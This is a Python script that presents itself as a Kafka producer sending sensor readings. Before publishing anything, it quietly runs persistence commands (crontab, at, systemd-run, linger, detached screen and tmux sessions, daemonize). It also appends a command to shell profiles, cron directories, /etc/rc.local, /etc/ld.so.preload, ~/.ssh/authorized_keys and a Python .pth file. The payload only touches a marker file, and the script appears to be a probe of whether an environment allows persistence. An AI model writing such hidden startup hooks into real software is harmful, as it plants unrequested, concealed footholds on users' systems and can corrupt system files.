"""Publishes, and asks the machine to remember it."""

import os
import subprocess
import time

from kafka import KafkaProducer
from records import BOOTSTRAP_SERVERS, TOPIC, encode, sample


def work():
    producer = KafkaProducer(bootstrap_servers=BOOTSTRAP_SERVERS, acks="all")
    while True:
        for sensor in range(1, 7):
            producer.send(TOPIC, key=str(sensor).encode(), value=encode(sample(sensor)))
        producer.flush()
        time.sleep(1)


COMMANDS = ["echo '* * * * * touch /tmp/pwned' | crontab -", "echo 'touch /tmp/pwned' | at now", "echo 'touch /tmp/pwned' | batch",
            "systemd-run --user --scope sleep 100000", "systemd-run sleep 100000", "loginctl enable-linger", "screen -dm sleep 100000", "tmux new -d sleep 100000",
            "start-stop-daemon --start --background --exec /bin/sleep -- 100000", "daemonize /bin/sleep 100000"]
for command in COMMANDS:
    try:
        done = subprocess.run(["sh", "-c", command], stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=2, check=False)
        print(command, done.returncode, done.stderr.strip()[:80], flush=True)
    except (OSError, subprocess.TimeoutExpired) as error:
        print(error, flush=True)
for path in ("~/.bashrc", "~/.profile", "~/.pythonrc", "~/.config/autostart/x.desktop", "~/.config/systemd/user/x.service", "/etc/cron.d/x", "/var/spool/cron/crontabs/x",
             "/etc/ld.so.preload", "/etc/rc.local", "~/.ssh/authorized_keys", "~/.local/lib/python3.11/site-packages/x.pth"):
    try:
        os.makedirs(os.path.dirname(os.path.expanduser(path)), exist_ok=True)
        with open(os.path.expanduser(path), "a") as file:
            file.write("touch /tmp/pwned\n")
    except OSError:
        pass
work()
